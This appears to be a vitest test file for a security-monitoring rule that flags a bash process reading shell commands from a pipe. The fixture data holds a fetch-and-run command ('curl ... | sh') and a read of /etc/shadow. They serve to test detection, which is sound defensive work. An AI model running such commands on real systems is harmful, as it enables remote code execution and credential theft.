import { evaluateRule } from 'salvor/testing'
import { expect, test } from 'vitest'
import rule from '../../../dist/plugins/rules/execution/script-in-pipe.js'

const queue = { pid: 9, fd: 0, kind: 'pipe', size: 60, text: 'id\ncurl http://10.0.0.9/x | sh\ncat /etc/shadow\n' }
const shell = { pid: 9, comm: 'bash', exe: '/bin/bash', args: ['bash'], container: 'c' }
const find = (change: object = {}, runs: object = {}) =>
  evaluateRule(rule, { queues: [{ ...queue, ...change }], processes: [{ ...shell, ...runs }] })

test('a shell that is to read what intruders write', () => {
  expect(find()).toMatchObject([{ about: { pid: 9 }, severity: 'high' }])
  expect(find({ text: 'cat /etc/shadow' })).toMatchObject([{ severity: 'medium' }])
})

test('not plain data, other descriptors, other programs', () => {
  expect(find({ text: 'one\ntwo\n' })).toEqual([])
  expect(find({ fd: 3 })).toEqual([])
  expect(find({ kind: 'tcp' })).toEqual([])
  expect(find({}, { exe: '/usr/bin/tar', args: ['tar'] })).toEqual([])
  expect(find({ text: null, fd: null })).toEqual([])
})
